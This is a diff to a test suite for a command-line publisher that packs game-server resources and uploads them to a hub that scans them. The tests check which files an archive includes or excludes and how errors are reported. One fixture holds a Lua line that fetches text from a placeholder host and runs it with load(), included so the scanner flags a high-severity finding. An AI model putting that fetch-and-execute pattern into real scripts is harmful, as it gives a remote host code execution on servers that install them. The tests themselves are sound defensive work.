@@ -136,7 +136,6 @@ test('a folder without a manifest, without a script, or with a link is bad usage
 test('a version waits for its report, and --fail-on decides the exit code', async () => {
   const lua = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"
   const work = await workspace({ number: '2.1.0', lua })
-  await work.write('pier/.git/config', 'not a part of the resource')
 
   const [published] = await Promise.all([
     work.publish('--fail-on', 'high', '--changelog', 'Loads more.'),
@@ -148,8 +147,71 @@ test('a version waits for its report, and --fail-on decides the exit code', asyn
   expect(published.stdout).toMatch(/Report: [1-9]\d* high[^]*pier\/server\.lua:\d/)
   const [version] = await versionsOf()
   expect(version).toMatchObject({ number: '2.1.0', changelog: 'Loads more.' })
+})
+
+test('an archive has what the manifest names and what a resource reads, and nothing of the workplace', async () => {
+  const work = await workspace({ number: '2.3.0' })
+  const manifest = await work.read('pier/fxmanifest.lua')
+  const names =
+    "server_script 'node_modules/tiny/index.js'\nfiles { '**/*', '.build/page.js', 'lib/old.zip' }\nui_page 'https://a.example/'\nshared_script '@ox_lib/init.lua'\n"
+  await work.write('pier/fxmanifest.lua', manifest + names)
+  const packed = [
+    'README.md',
+    '.fxap',
+    '.build/page.js',
+    'data/read.json',
+    'lib/old.zip',
+    'node_modules/tiny/index.js',
+    'scripthaven/bridge.lua',
+  ]
+  const left = [
+    '.git/config',
+    '.env',
+    'lib/.git/config',
+    'node_modules/tiny/package.json',
+    'node_modules/other/index.js',
+    'pier.zip',
+    'debug.log',
+    'Thumbs.db',
+    'scripthaven.json',
+    'scripthaven.lock',
+    'scripthaven/installed.json',
+    'scripthaven/rollback/1/change.json',
+  ]
+  for (const path of [...packed, ...left]) await work.write(`pier/${path}`, `// ${path}\n`)
+  await symlink('/etc', work.path('pier/node_modules/link'))
+
+  const [checked, [published]] = [
+    await work.publish('--check'),
+    await Promise.all([work.publish(), analyseWhenUploaded('2.3.0')]),
+  ]
+
+  expect([published.code, published.stderr]).toEqual([0, ''])
+  expect(published.stdout).toMatch(/^Packed 9 files, \d KB\./)
+  const [version] = await versionsOf()
   const { body } = await app.request(author, 'GET', `/api/versions/${version?.id}/files`)
-  expect(JSON.stringify(body)).not.toContain('.git')
+  const paths = body.files.map(({ path }: { path: string }) => path)
+  expect(paths.toSorted()).toEqual(
+    [...packed, 'fxmanifest.lua', 'server.lua'].map((path) => `pier/${path}`).toSorted(),
+  )
+  expect(checked.stdout).toContain('9 files, 1 resource')
+})
+
+test('a file that the manifest names and that does not exist stops the upload', async () => {
+  const before = await versionsOf()
+  const work = await workspace({ number: '2.4.0' })
+  const manifest = await work.read('pier/fxmanifest.lua')
+  await work.write(
+    'pier/fxmanifest.lua',
+    `${manifest}ui_page 'web/dist/index.html'\nfiles { 'locales/*.json' }\n`,
+  )
+
+  for (const args of [[], ['--check']])
+    expect(await work.publish(...args)).toMatchObject({
+      code: 2,
+      stderr: expect.stringContaining('does not exist: web/dist/index.html (line 6). Nothing was uploaded.'),
+    })
+  expect(await versionsOf()).toEqual(before)
 })
 
 test('an archive that the hub cannot read ends with its reason', async () => {
